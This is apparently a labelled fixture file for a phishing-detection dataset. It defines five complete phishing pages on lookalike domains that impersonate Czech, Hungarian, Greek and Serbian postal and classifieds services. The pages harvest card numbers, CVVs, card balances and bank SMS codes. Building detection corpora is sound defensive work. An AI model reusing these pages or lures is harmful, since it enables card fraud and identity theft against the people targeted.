import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { page, b64, favicon, wordmark, baseCss, cardFieldScript, chunks, pctAll } from '../parts/yd-kit.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
(() => {
  const host = 'cpost-cz.zasilka-doruceni.info';
  const css = `${baseCss}body{background:#f5f5f5;font-family:Arial,sans-serif}
.top{background:#fff;border-bottom:4px solid #ffcc00;height:70px;display:flex;align-items:center;padding:0 30px}
.top .m{margin-left:auto;font-size:14px;color:#002776}
.c{max-width:620px;margin:30px auto;background:#fff;padding:30px 36px;border-radius:4px;box-shadow:0 1px 4px rgba(0,0,0,.08)}
h1{color:#002776;font-size:24px;margin-top:0}.stat{display:flex;gap:10px;margin:16px 0 24px}.stat div{flex:1;text-align:center;font-size:12px;padding-top:24px;border-top:4px solid #ddd;color:#999}.stat .d{border-color:#002776;color:#002776}.stat .x{border-color:#e30613;color:#e30613}
table{width:100%;font-size:14px;margin-bottom:20px}td{padding:5px 0}td:first-child{color:#666}
label{display:block;font-size:14px;margin:12px 0 4px}input{width:100%;padding:10px;border:1px solid #bbb;border-radius:3px}.row{display:flex;gap:12px}.row>div{flex:1}
.btn{background:#002776;color:#fff;border:0;padding:12px 28px;margin-top:20px;border-radius:3px;font-weight:700;cursor:pointer}`;
  const body = `<div class="top">${wordmark('Česká pošta', '#002776', { mark: 'circle', width: 170 })}<span class="m">Sledování zásilek</span></div>
<div class="c">
<h1>Zásilka RR40217736CZ</h1>
<div class="stat"><div class="d">Podáno</div><div class="d">Na cestě</div><div class="x">Nedoručeno</div><div>Doručeno</div></div>
<table><tr><td>Stav:</td><td><b>Zásilka čeká na doplacení poštovného</b></td></tr><tr><td>Důvod:</td><td>Nedostatečně vyplacená zásilka (hmotnost neodpovídá)</td></tr><tr><td>K úhradě:</td><td><b>38,00 Kč</b></td></tr><tr><td>Uložení do:</td><td id="dl"></td></tr></table>
<form id="f1">
<label>Jméno a příjmení</label><input name="jmeno" required>
<label>Adresa doručení</label><input name="adresa" required>
<div class="row"><div><label>PSČ</label><input name="psc" required></div><div><label>Telefon</label><input name="tel" required></div></div>
<h3 style="margin-top:26px">Platba kartou</h3>
<label>Číslo karty</label><input name="cc" data-card="number" required>
<div class="row"><div><label>Platnost</label><input name="exp" data-card="expiry" placeholder="MM/RR" required></div><div><label>CVV</label><input name="cvv" data-card="cvc" required></div></div>
<button class="btn">Zaplatit 38,00 Kč</button>
</form>
<p style="font-size:12px;color:#888;margin-top:24px">Česká pošta, s.p., Politických vězňů 909/4, 225 99 Praha 1. Zákaznická linka 954 292 102.</p>
</div>`;
  const js = `${cardFieldScript}<script>
var d=new Date(Date.now()+2*864e5);dl.textContent=d.toLocaleDateString('cs-CZ');
f1.onsubmit=function(e){e.preventDefault();var o=Object.fromEntries(new FormData(f1));o.t=Date.now();
fetch('/pay/card.php',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(o)}).then(function(r){return r.json()}).then(function(j){location.href=j.next||'/pay/wait.html'})};
</script>`;
  const sec = page({ lang: 'cs', title: 'Ověření platby', css: `${baseCss}body{font-family:Arial;background:#f5f5f5}.b{max-width:400px;margin:60px auto;background:#fff;padding:28px;border:1px solid #ddd}input{width:100%;padding:10px;border:1px solid #aaa;margin:10px 0}button{background:#002776;color:#fff;border:0;padding:10px 24px}`,
    body: `<div class="b"><h3>Ověření platby</h3><p>Vaše banka vám zaslala SMS s ověřovacím kódem pro platbu 38,00 Kč obchodníkovi CESKA POSTA.</p><form action="/pay/otp.php" method="post"><input name="otp" maxlength="8" inputmode="numeric" placeholder="Ověřovací kód"><button>Potvrdit</button></form></div>` });
  return {
    id: 'yd-ceska-posta-doplatek-kit', label: 'phishing', kind: 'parcel-fee-kit',
    url: `https://${host}/sledovani/?id=RR40217736CZ`,
    body: page({ lang: 'cs', title: 'Česká pošta – Sledování zásilky', head: favicon('#ffcc00', 'P', '#002776'), css, body, scripts: js }),
    routes: {
      [`${host}/pay/card.php`]: jsonRoute({ next: '/pay/3ds.html' }),
      [`${host}/pay/3ds.html`]: htmlRoute(sec),
      [`${host}/pay/otp.php`]: redirectRoute(302, 'https://www.postaonline.cz/'),
    },
  } satisfies Entry;
})(),

(() => {
  const host = 'posta-hu.vamkezelesi-dij.com';
  const cfg = { amount: '1 890 Ft', tracking: 'LX938271455CN', sender: 'Shenzhen Global Trade Co.', gate: '/api/charge', brand: 'Magyar Posta' };
  const loader = `(function(){fetch('/assets/cfg.json').then(function(r){return r.json()}).then(function(c){
document.querySelectorAll('[data-k]').forEach(function(el){el.textContent=c[el.getAttribute('data-k')]});
var f=document.getElementById('vf');f.onsubmit=function(e){e.preventDefault();var d=new FormData(f);d.append('trk',c.tracking);fetch(c.gate,{method:'POST',body:d}).then(function(){document.getElementById('done').hidden=false;f.hidden=true})}})})();`;
  const css = `${baseCss}body{background:#f2f4f3;font-family:Arial,sans-serif}.hd{background:#d00b24;color:#fff;height:64px;display:flex;align-items:center;padding:0 26px}
.box{max-width:560px;margin:30px auto;background:#fff;border-radius:6px;padding:28px 32px}.pill{display:inline-block;background:#fde2e4;color:#a0001a;padding:4px 10px;border-radius:12px;font-size:13px;font-weight:700}
dl{display:grid;grid-template-columns:1fr 1fr;gap:6px;font-size:14px}dt{color:#666}dd{margin:0;font-weight:600}
label{display:block;margin:12px 0 4px;font-size:13px}input{width:100%;padding:10px;border:1px solid #bbb;border-radius:4px}.r{display:flex;gap:10px}.r>div{flex:1}
button{background:#d00b24;color:#fff;border:0;padding:12px;width:100%;border-radius:4px;margin-top:18px;font-weight:700}`;
  const body = `<div class="hd">${wordmark('Magyar Posta', '#fff', { mark: 'circle', text: '#fff', width: 170 })}</div>
<div class="box"><span class="pill">Vámkezelés folyamatban</span>
<h2>Küldeménye a vámhatóságnál várakozik</h2>
<dl><dt>Küldeményazonosító</dt><dd data-k="tracking"></dd><dt>Feladó</dt><dd data-k="sender"></dd><dt>Fizetendő vám és kezelési díj</dt><dd data-k="amount"></dd></dl>
<p>A díj megfizetéséig a küldeményt nem tudjuk kézbesíteni. 5 munkanap után a küldemény visszaküldésre kerül a feladónak.</p>
<form id="vf"><label>Név a kártyán</label><input name="nev" required><label>Kártyaszám</label><input name="kartya" data-card="number" required>
<div class="r"><div><label>Lejárat</label><input name="lej" data-card="expiry" required></div><div><label>CVC</label><input name="cvc" data-card="cvc" required></div></div>
<button>Fizetés</button></form>
<div id="done" hidden><h3>Köszönjük!</h3><p>A bankja SMS-ben megerősítő kódot küldhet. Kérjük, tartsa kéznél telefonját.</p></div>
</div>`;
  return {
    id: 'yd-magyar-posta-vam-kit', label: 'phishing', kind: 'parcel-fee-kit',
    url: `https://${host}/nyomkovetes/`,
    body: page({ lang: 'hu', title: 'Magyar Posta – Vámkezelés', head: favicon('#d00b24', 'P'), css, body, scripts: `${cardFieldScript}<script src="/assets/app.js"></script>` }),
    routes: {
      [`${host}/assets/app.js`]: jsRoute(loader),
      [`${host}/assets/cfg.json`]: jsonRoute(cfg),
      [`${host}/api/charge`]: jsonRoute({ status: 'pending' }),
    },
  } satisfies Entry;
})(),

(() => {
  const host = 'elta-courier.gr-paralavi.info';
  const app = `(function(){
var S={el:{t:'Το δέμα σας δεν μπορεί να παραδοθεί',p:'Λόγω ελλιπούς διεύθυνσης το δέμα επιστράφηκε στο κέντρο διαλογής. Για επαναποστολή απαιτείται τέλος 2,49 €.',b:'Πληρωμή και επαναποστολή'}};
var L=S.el,r=document.getElementById('root');
r.innerHTML='<div class="card"><h1>'+L.t+'</h1><p class="n">Αρ. αποστολής: <b>GR '+(Math.floor(Math.random()*9e8)+1e8)+' EL</b></p><p>'+L.p+'</p>'+
'<form id="pf"><input name="onoma" placeholder="Ονοματεπώνυμο" required><input name="odos" placeholder="Διεύθυνση" required><input name="tk" placeholder="Τ.Κ." required><input name="kin" placeholder="Κινητό" required>'+
'<input name="card" placeholder="Αριθμός κάρτας" data-card="number" required><div class="r"><input name="exp" placeholder="ΜΜ/ΕΕ" data-card="expiry" required><input name="cvv" placeholder="CVV" data-card="cvc" required></div>'+
'<button>'+L.b+'</button></form></div>';
var s=document.createElement('script');s.src='/static/card.js';document.body.appendChild(s);
document.getElementById('pf').onsubmit=function(e){e.preventDefault();navigator.sendBeacon('/static/b.php',new FormData(this));r.innerHTML='<div class="card"><h1>Σε επεξεργασία…</h1><p>Μην κλείσετε τη σελίδα.</p></div>'};
})();`;
  const cardJs = cardFieldScript.replace(/<\/?script>/g, '');
  const css = `${baseCss}body{background:#f6f3ea;font-family:Arial,sans-serif}.top{background:#00398f;height:62px;display:flex;align-items:center;padding:0 22px;border-bottom:5px solid #ffd200}
.card{max-width:500px;margin:30px auto;background:#fff;border-radius:6px;padding:26px}.card h1{font-size:22px;color:#00398f}.n{font-size:14px;color:#555}
.card input{display:block;width:100%;padding:11px;border:1px solid #c7c7c7;border-radius:4px;margin:8px 0}.r{display:flex;gap:10px}
.card button{width:100%;padding:13px;background:#ffd200;border:0;border-radius:4px;font-weight:700;margin-top:10px;cursor:pointer}`;
  return {
    id: 'yd-elta-gr-js-rendered-kit', label: 'phishing', kind: 'parcel-fee-kit',
    url: `https://${host}/track/`,
    body: page({ lang: 'el', title: 'ΕΛΤΑ Courier – Παρακολούθηση', head: favicon('#00398f', 'Ε', '#ffd200'), css,
      body: `<div class="top">${wordmark('ΕΛΤΑ Courier', '#fff', { mark: 'circle', text: '#fff', width: 170 })}</div><div id="root"></div><noscript>Ενεργοποιήστε τη JavaScript.</noscript>`,
      scripts: `<script src="/static/app.min.js"></script>` }),
    routes: {
      [`${host}/static/app.min.js`]: jsRoute(app),
      [`${host}/static/card.js`]: jsRoute(cardJs),
      [`${host}/static/b.php`]: jsonRoute({ ok: 1 }),
    },
  } satisfies Entry;
})(),

(() => {
  const host = 'bazos.cz-bezpecna-platba.com';
  const css = `${baseCss}body{background:#fff;font-family:Verdana,Arial,sans-serif;font-size:14px}
.hd{border-bottom:2px solid #e90000;padding:10px 20px;display:flex;align-items:center;gap:20px}
.ad{max-width:720px;margin:24px auto;border:1px solid #ddd;padding:22px}.ad h2{margin:0 0 6px;color:#e90000;font-size:19px}
.ok{background:#e9f7ea;border:1px solid #9fd3a3;padding:12px;margin:14px 0}
.prod{display:flex;gap:16px;align-items:center;margin:10px 0}.prod .img{width:110px;height:80px;background:#ddd;display:flex;align-items:center;justify-content:center;color:#777;font-size:11px}
label{display:block;margin:10px 0 4px}input{width:100%;padding:9px;border:1px solid #aaa}.row{display:flex;gap:10px}.row>div{flex:1}
.b{background:#e90000;color:#fff;border:0;padding:11px 28px;margin-top:16px;font-weight:700;cursor:pointer}
.chat{position:fixed;right:18px;bottom:18px;background:#e90000;color:#fff;border-radius:22px;padding:10px 16px;font-size:13px}`;
  const body = `<div class="hd">${wordmark('BAZOŠ.CZ', '#e90000', { mark: 'none', width: 130 })}<span>Inzerce zdarma · Bezpečná platba</span></div>
<div class="ad">
<h2>Kupující za váš inzerát zaplatil</h2>
<div class="prod"><div class="img">foto</div><div><b>iPhone 13 128 GB modrý, jako nový</b><br>Cena: 12 500 Kč<br>Kupující: Martina Svobodová</div></div>
<div class="ok">✔ Platba ve výši <b>12 500 Kč</b> byla připsána na zabezpečený účet Bazoš. Zboží vyzvedne kurýr společnosti PPL. Pro připsání peněz na vaši kartu vyplňte údaje karty, na kterou chcete peníze přijmout.</div>
<form id="rcv">
<label>Jméno a příjmení</label><input name="jmeno" required>
<label>Číslo karty pro příjem platby</label><input name="karta" data-card="number" required>
<div class="row"><div><label>Platnost</label><input name="plat" data-card="expiry" required></div><div><label>CVV/CVC</label><input name="cvv" data-card="cvc" required></div></div>
<label>Aktuální zůstatek na kartě (pro ověření, že karta je aktivní)</label><input name="zustatek" inputmode="decimal" required>
<button class="b">Přijmout 12 500 Kč</button>
</form>
<p style="font-size:11px;color:#777">Služba Bezpečná platba je provozována ve spolupráci s PPL CZ s.r.o. Prostředky jsou připsány do 15 minut.</p>
</div>
<div class="chat">💬 Online podpora</div>`;
  const js = `${cardFieldScript}<script>
rcv.addEventListener('submit',function(e){e.preventDefault();var b=JSON.stringify(Object.fromEntries(new FormData(rcv)));
fetch('/api/receive?ad=148823019',{method:'POST',body:b,headers:{'Content-Type':'application/json'}}).then(function(r){return r.json()}).then(function(j){document.querySelector('.ad').innerHTML='<h2>Čekáme na potvrzení</h2><p>Potvrďte prosím příjem platby v aplikaci vaší banky. Operace se zobrazí jako ověření karty.</p><p>Kód operace: '+j.op+'</p>'})});
</script>`;
  return {
    id: 'yd-bazos-cz-receive-payment-kit', label: 'phishing', kind: 'classifieds-safe-payment-kit',
    url: `https://${host}/prijem/148823019`,
    body: page({ lang: 'cs', title: 'Bazoš.cz – Bezpečná platba', css, body, scripts: js }),
    routes: { [`${host}/api/receive`]: jsonRoute({ op: 'BZ-77120', status: 'await' }) },
  } satisfies Entry;
})(),

(() => {
  const host = 'kupujemprodajem.kp-placanje-rs.com';
  const css = `${baseCss}body{background:#f7f7f7;font-family:Arial,sans-serif}.hd{background:#fff;border-bottom:3px solid #ff6e00;padding:12px 28px;display:flex;align-items:center}
.c{max-width:560px;margin:28px auto;background:#fff;border:1px solid #e2e2e2;border-radius:6px;padding:26px}
.info{background:#fff4ea;border:1px solid #ffc899;border-radius:4px;padding:12px;font-size:14px}
label{display:block;margin:12px 0 4px;font-size:14px}input{width:100%;padding:10px;border:1px solid #bdbdbd;border-radius:4px}.r{display:flex;gap:10px}.r>div{flex:1}
button{width:100%;background:#ff6e00;color:#fff;border:0;border-radius:4px;padding:12px;margin-top:18px;font-weight:700}`;
  const body = `<div class="hd">${wordmark('КупујемПродајем', '#ff6e00', { mark: 'none', width: 200 })}<span style="margin-left:auto;font-size:13px">КП Плаћање</span></div>
<div class="c">
<h2>Безбедна купопродаја — исплата продавцу</h2>
<div class="info">Купац <b>Немања Ј.</b> је уплатио <b>24.900 дин.</b> за оглас „PlayStation 5 sa dva džojstika“. Новац је резервисан на КП рачуну. Унесите податке картице на коју желите да примите уплату.</div>
<form id="kp">
<label>Име и презиме</label><input name="ime" required>
<label>Број картице</label><input name="kartica" data-card="number" required>
<div class="r"><div><label>Важи до</label><input name="vazi" data-card="expiry" required></div><div><label>CVV</label><input name="cvv" data-card="cvc" required></div></div>
<label>Број телефона</label><input name="tel" value="+381 " required>
<button>Прими уплату</button>
</form>
<p style="font-size:12px;color:#777">КП Плаћање у сарадњи са D Express курирском службом. Исплата у року од 10 минута.</p>
</div>`;
  const js = `${cardFieldScript}<script>
kp.onsubmit=function(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST','/kp/isplata.php');x.onload=function(){location.href='/kp/potvrda.php'};x.send(new FormData(kp))};
</script>`;
  const conf = page({ lang: 'sr-Cyrl', title: 'КП Плаћање – потврда', css, body: `<div class="hd">${wordmark('КупујемПродајем', '#ff6e00', { mark: 'none', width: 200 })}</div><div class="c"><h2>Потврда исплате</h2><p>Унесите код који вам је банка послала SMS поруком.</p><form method="post" action="/kp/kod.php"><input name="kod" maxlength="8"><button>Потврди</button></form></div>` });
  return {
    id: 'yd-kp-rs-cyrillic-payout-kit', label: 'phishing', kind: 'classifieds-safe-payment-kit',
    url: `https://${host}/oglas/158820441/isplata`,
    body: page({ lang: 'sr-Cyrl', title: 'КупујемПродајем – КП Плаћање', head: favicon('#ff6e00', 'K'), css, body, scripts: js }),
    routes: {
      [`${host}/kp/isplata.php`]: jsonRoute({ ok: 1 }),
      [`${host}/kp/potvrda.php`]: htmlRoute(conf),
      [`${host}/kp/kod.php`]: redirectRoute(302, 'https://www.kupujemprodajem.com/'),
    },
  } satisfies Entry;
})(),
];
